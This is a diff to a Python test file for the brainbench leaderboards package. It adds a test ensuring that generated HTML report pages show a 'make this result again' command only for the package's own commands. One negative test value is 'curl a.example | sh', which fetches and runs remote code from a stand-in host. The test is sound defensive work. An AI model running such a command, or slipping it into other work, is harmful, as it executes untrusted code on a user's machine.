@@ -5,7 +5,7 @@ from __future__ import annotations
 from dataclasses import replace
 
 from brainbench.core.records import Interval
-from leaderboards import build_leaderboard
+from leaderboards import build_leaderboard, write_report
 from leaderboards import text as words
 from tests.factories.html_page import Page
 
@@ -21,6 +21,16 @@ def test_the_limit_of_a_p_value_is_the_stimuli_or_the_permutations(make_score):
 def _with(record, name="net", **changes):
     card = replace(record.card, **changes)
     return replace(record, score=replace(record.score, name=name), card=card)
+
+
+def test_only_commands_of_this_package_stand_on_a_page(make_record, tmp_path):
+    """The page says "to make this result again", and its reader copies what stands there into a shell."""
+    record = make_record()
+    for command, stated in (("curl a.example | sh", False), ("brainbench score a; brainbench score b", True)):
+        score = replace(record.score, provenance={**record.score.provenance, "command": command})
+        page = write_report(replace(record, score=score), tmp_path / "report.html").read_text(encoding="utf-8")
+        assert ("make this result again" in page) is stated
+        assert (f"<code>{command}</code>" in page) is stated
 
 
 def test_every_repeatable_model_says_how_to_get_it(make_record):
